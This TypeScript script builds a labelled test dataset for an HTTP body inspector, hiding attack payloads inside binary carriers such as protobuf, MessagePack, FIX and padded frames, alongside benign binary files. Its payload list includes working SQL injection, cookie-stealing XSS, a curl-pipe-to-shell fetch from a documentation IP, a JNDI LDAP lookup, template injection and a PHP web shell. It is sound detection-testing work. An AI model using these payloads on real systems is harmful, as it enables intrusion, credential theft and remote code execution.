/**
 * Probes for bodies sent with no Content-Type or as `application/octet-stream` (session 34, ev34, issue 14): the
 * inspector reads such a body as text only when at most 5 % of its bytes are control bytes (src/inspect/bodies/text.ts),
 * so one `\x01` beside a short payload, or the framing of a binary message around it, kept the payload from every
 * value rule and the model. Written before anything was measured on them.
 *
 * Attacks: ten payloads (SQL, XSS, shell, traversal, JNDI, SSTI, PHP), each carried eight ways:
 *
 * | carrier | the body |
 * |---|---|
 * | `plain` | the payload alone (the control: text already) |
 * | `ctl1` | `\x01` then the payload |
 * | `nul-end` | the payload, then four NUL bytes (a C string, a fixed-size field) |
 * | `fix` | a FIX message, SOH between its fields, the payload one field's value |
 * | `proto` | a protobuf message: an id varint, the payload as a string field, a language string |
 * | `msgpack` | a MessagePack map: an id, the payload as `note`, a float64 timestamp |
 * | `frame` | a 4-byte big-endian length, then the payload (a length-prefixed frame) |
 * | `padded` | the payload between 256 and 64 bytes of pseudo-random binary |
 *
 * Benign: real binary files found on the machine (PNG, GIF, JPEG, PDF, TrueType, gettext .mo catalogues, gzip'd
 * changelogs, small ELF executables: sorted paths, the first few of each), protobuf and MessagePack messages of prose
 * and numbers, and text sent without a type (NDJSON log lines, prose, CSV). Each body is sent with no Content-Type
 * and as `application/octet-stream`. Records carry their body as base64 (`bodyEncoding`). Deterministic on one machine
 * (the files are the machine's).
 *
 *   npx tsx datasets/untyped-body-probes.ts --out FILE.ndjson
 */
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { parseArgs } from 'node:util';
import type { RequestRecord } from '../src/eval/record.js';

export const PAYLOADS: ReadonlyArray<[string, string]> = [
  ['sqli-sleep', "1' AND SLEEP(5)-- "],
  ['sqli-union', "' UNION SELECT username, password FROM users--"],
  ['sqli-or', "1' OR '1'='1"],
  ['xss-img', '<img src=x onerror=alert(document.domain)>'],
  ['xss-script', '<script>fetch("//203.0.113.9/c?"+document.cookie)</script>'],
  ['cmdi', ';cat /etc/passwd'],
  ['cmdi-subst', '$(curl -s http://203.0.113.9/x.sh|sh)'],
  ['traversal', '../../../../../../etc/passwd'],
  ['jndi', '${jndi:ldap://203.0.113.9:1389/Exploit}'],
  ['ssti', "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"],
  ['php', "<?php system($_GET['c']); ?>"],
];

/** A deterministic byte stream (xorshift32), for the binary padding (and compressed-like bodies in tests). */
export function pseudoRandom(seed: number, length: number): Buffer {
  const out = Buffer.alloc(length);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    out[i] = x & 0xff;
  }
  return out;
}

function varint(n: number): Buffer {
  const bytes: number[] = [];
  let v = n;
  while (v >= 0x80) {
    bytes.push((v & 0x7f) | 0x80);
    v = Math.floor(v / 128);
  }
  bytes.push(v);
  return Buffer.from(bytes);
}

/** A protobuf field: `field` with wire type 2 (length-delimited) holding `text`, or 0 (varint) holding a number. */
function protoField(field: number, value: string | number): Buffer {
  if (typeof value === 'number') return Buffer.concat([varint(field << 3), varint(value)]);
  const bytes = Buffer.from(value, 'utf8');
  return Buffer.concat([varint((field << 3) | 2), varint(bytes.length), bytes]);
}

/** MessagePack of a flat map of strings, non-negative integers and floats (the few types the probes use). */
function msgpackMap(entries: ReadonlyArray<[string, string | number]>): Buffer {
  const parts: Buffer[] = [Buffer.from([0x80 | entries.length])];
  const str = (s: string): Buffer => {
    const b = Buffer.from(s, 'utf8');
    if (b.length < 32) return Buffer.concat([Buffer.from([0xa0 | b.length]), b]);
    if (b.length < 256) return Buffer.concat([Buffer.from([0xd9, b.length]), b]);
    const head = Buffer.alloc(3);
    head[0] = 0xda;
    head.writeUInt16BE(b.length, 1);
    return Buffer.concat([head, b]);
  };
  for (const [key, value] of entries) {
    parts.push(str(key));
    if (typeof value === 'string') parts.push(str(value));
    else if (Number.isInteger(value) && value < 128) parts.push(Buffer.from([value]));
    else if (Number.isInteger(value) && value < 65536) {
      const b = Buffer.alloc(3);
      b[0] = 0xcd;
      b.writeUInt16BE(value, 1);
      parts.push(b);
    } else {
      const b = Buffer.alloc(9);
      b[0] = 0xcb;
      b.writeDoubleBE(value, 1);
      parts.push(b);
    }
  }
  return Buffer.concat(parts);
}

export const CARRIERS: ReadonlyArray<[string, (payload: string, seed: number) => Buffer]> = [
  ['plain', (p) => Buffer.from(p, 'utf8')],
  ['ctl1', (p) => Buffer.concat([Buffer.from([0x01]), Buffer.from(p, 'utf8')])],
  ['nul-end', (p) => Buffer.concat([Buffer.from(p, 'utf8'), Buffer.alloc(4)])],
  ['fix', (p) => Buffer.from(['8=FIX.4.4', '9=176', '35=D', '49=CLIENT12', '56=BROKER', `58=${p}`, '10=128', ''].join('\x01'), 'utf8')],
  ['proto', (p, seed) => Buffer.concat([protoField(1, 1500 + seed), protoField(2, p), protoField(3, 'en-GB')])],
  ['msgpack', (p, seed) => msgpackMap([['id', 150 + seed], ['note', p], ['ts', 1765098000.125 + seed]])],
  [
    'frame',
    (p) => {
      const body = Buffer.from(p, 'utf8');
      const head = Buffer.alloc(4);
      head.writeUInt32BE(body.length, 0);
      return Buffer.concat([head, body]);
    },
  ],
  ['padded', (p, seed) => Buffer.concat([pseudoRandom(0x9e3779b9 ^ seed, 256), Buffer.from(p, 'utf8'), pseudoRandom(0x85ebca6b ^ seed, 64)])],
];

const TYPES: ReadonlyArray<[string, string | undefined]> = [
  ['none', undefined],
  ['octet', 'application/octet-stream'],
];

/** The first `count` files under `dir` (recursively, sorted) whose name ends with `ext` and whose size is within bounds. */
function filesOf(dir: string, ext: string, count: number, maxBytes = 200_000): string[] {
  const out: string[] = [];
  const walk = (d: string, depth: number): void => {
    if (out.length >= count || depth > 6) return;
    let names: string[];
    try {
      names = readdirSync(d).sort();
    } catch {
      return;
    }
    for (const name of names) {
      if (out.length >= count) return;
      const path = join(d, name);
      let st;
      try {
        st = statSync(path);
      } catch {
        continue;
      }
      if (st.isDirectory()) walk(path, depth + 1);
      else if (st.isFile() && name.endsWith(ext) && st.size > 64 && st.size <= maxBytes) out.push(path);
    }
  };
  walk(dir, 0);
  return out;
}

const PROSE = [
  'The parcel was left with a neighbour at no. 14 but they say they never got it.',
  'Please move my delivery to Thursday afternoon; nobody is home before three.',
  'Great product, fits perfectly. Shipping took a bit longer than expected though.',
  "Quarterly figures attached, let me know if the totals don't match the ledger.",
  'Reminder: the staging database is restored from last night\'s snapshot at 02:00 UTC.',
];

function benignBodies(): Array<[string, Buffer]> {
  const bodies: Array<[string, Buffer]> = [];
  const files: Array<[string, string, string, number]> = [
    ['png', '/usr/share/icons', '.png', 12],
    ['gif', '/usr/share', '.gif', 5],
    ['jpg', '/usr/share', '.jpg', 2],
    ['pdf', '/usr/share', '.pdf', 2],
    ['ttf', '/usr/share/fonts', '.ttf', 4],
    ['mo', '/usr/share/locale', '.mo', 8],
    ['gz', '/usr/share/doc', '.gz', 8],
  ];
  for (const [kind, dir, ext, count] of files) for (const path of filesOf(dir, ext, count)) bodies.push([`${kind}:${path}`, readFileSync(path)]);
  for (const name of ['true', 'false', 'sleep', 'yes']) {
    try {
      bodies.push([`elf:/usr/bin/${name}`, readFileSync(`/usr/bin/${name}`)]);
    } catch {
      // not on this machine
    }
  }
  PROSE.forEach((text, i) => {
    bodies.push([`proto:${i}`, Buffer.concat([protoField(1, 4200 + i), protoField(2, text), protoField(3, 'en-GB'), protoField(4, 1765098000 + i)])]);
    bodies.push([`msgpack:${i}`, msgpackMap([['id', 4200 + i], ['text', text], ['lang', 'en-GB'], ['score', 0.75 + i]])]);
    bodies.push([`text:${i}`, Buffer.from(`${text}\n`, 'utf8')]);
  });
  const lines = PROSE.map((text, i) => JSON.stringify({ ts: `2026-12-07T10:0${i}:00Z`, level: i % 2 === 0 ? 'info' : 'warn', msg: text, req: `r-${1000 + i}` }));
  bodies.push(['ndjson:0', Buffer.from(`${lines.join('\n')}\n`, 'utf8')]);
  bodies.push(['csv:0', Buffer.from(`id,name,note\n${PROSE.map((t, i) => `${i},"user ${i}","${t.replace(/"/g, '""')}"`).join('\n')}\n`, 'utf8')]);
  bodies.push(['gzip-ndjson:0', gzipSync(Buffer.from(`${lines.join('\n')}\n`, 'utf8'))]);
  return bodies;
}

function record(id: string, label: 'attack' | 'benign', body: Buffer, type: string | undefined): RequestRecord {
  const headers: Record<string, string> = { Host: 'api.example', 'User-Agent': 'probe-client/1.0' };
  if (type !== undefined) headers['Content-Type'] = type;
  return { id, source: 'untyped-body-probes', category: 'untyped-body', label, method: 'POST', path: '/api/v1/upload', query: '', headers, body: body.toString('base64'), bodyEncoding: 'base64' };
}

export function untypedBodyProbes(): RequestRecord[] {
  const out: RequestRecord[] = [];
  PAYLOADS.forEach(([name, payload], i) => {
    for (const [carrier, wrap] of CARRIERS) for (const [type, value] of TYPES) out.push(record(`a/${name}/${carrier}/${type}`, 'attack', wrap(payload, i), value));
  });
  for (const [name, body] of benignBodies()) for (const [type, value] of TYPES) out.push(record(`b/${name}/${type}`, 'benign', body, value));
  return out;
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const { values } = parseArgs({ options: { out: { type: 'string' } } });
  if (values.out === undefined) {
    console.error('usage: npx tsx datasets/untyped-body-probes.ts --out FILE.ndjson');
    process.exit(2);
  }
  const records = untypedBodyProbes();
  writeFileSync(values.out, records.map((r) => JSON.stringify(r)).join('\n') + '\n');
  console.log(`${records.length} records (${records.filter((r) => r.label === 'attack').length} attacks) -> ${values.out}`);
}
